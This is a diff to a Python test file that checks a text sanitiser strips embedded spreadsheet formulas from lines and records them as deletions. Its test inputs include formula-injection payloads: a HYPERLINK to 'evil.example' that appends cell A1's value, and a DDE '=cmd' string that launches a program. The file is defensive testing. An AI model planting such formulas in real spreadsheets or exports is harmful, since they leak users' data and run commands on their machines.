@@ -130,14 +130,23 @@ def test_form_feeds_part_the_pages() -> None:
 @pytest.mark.parametrize(
     ("line", "left"),
     [
-        ('Cardiff has =HYPERLINK("https://evil.example","5") beds in all.', "Cardiff has beds in all."),
-        ('Cardiff\t=HYPERLINK("https://evil.example?x="&A1,"open")\t7', "Cardiff 7"),
-        ("Newport | =SUM(A1:A9) | 9", "Newport | | 9"),
-        ("Count: =cmd|'/C calc'!A0 and no more.", "Count: and no more."),
-        ("If E = mc and a=b (so it goes), keep = all.", "If E = mc and a=b (so it goes), keep = all."),
+        pytest.param(
+            'Cardiff has =HYPERLINK("https://evil.example","5") beds.', "Cardiff has beds.", id="in a sentence"
+        ),
+        pytest.param('Cardiff\t=HYPERLINK("https://evil.example?x="&A1,"open")\t7', "Cardiff 7", id="in a row"),
+        pytest.param("Newport | =SUM(A1:A9) | 9", "Newport | | 9", id="in a cell"),
+        pytest.param("=SUM(A1) beds in all.", "beds in all.", id="at the head of a line"),
+        pytest.param('Go to =hyperlink("http://x","y") now.', "Go to now.", id="in small letters"),
+        pytest.param('It is =IF(1,HYPERLINK("http://x","y")) here.', "It is here.", id="inside another"),
+        pytest.param('It is +HYPERLINK("http://x","y") here.', "It is here.", id="behind another sign"),
+        pytest.param('A =HYPERLINK("http://a(b","ok") and so on.', "A and so on.", id="a bracket in its words"),
+        pytest.param('A =HYPERLINK(("x" stays here.', 'A("x" stays here.', id="never closed"),
+        pytest.param("Count: =cmd|'/C calc'!A0 and no more.", "Count: and no more.", id="a command"),
+        pytest.param("The rent = MAX (income) and a=b(c), 5 + 3 (of 8).", None, id="prose"),
+        pytest.param("Wales - HSE (Wales) - and a-SUM(x) stay.", None, id="dashes"),
     ],
 )
-def test_formula_is_left_out_and_listed(line: str, left: str) -> None:
+def test_formula_is_left_out_and_listed(line: str, left: str | None) -> None:
     version = _version(f"The first line of it stands here.\n\n{line}\n\nThe last one stands here.\n".encode())
-    assert version.text.split("\n\n")[1] == left
+    assert version.text.split("\n\n")[1] == (left or line)
     assert _with_deletions(version) == squeezed(f"The first line of it stands here.{line}The last one stands here.")
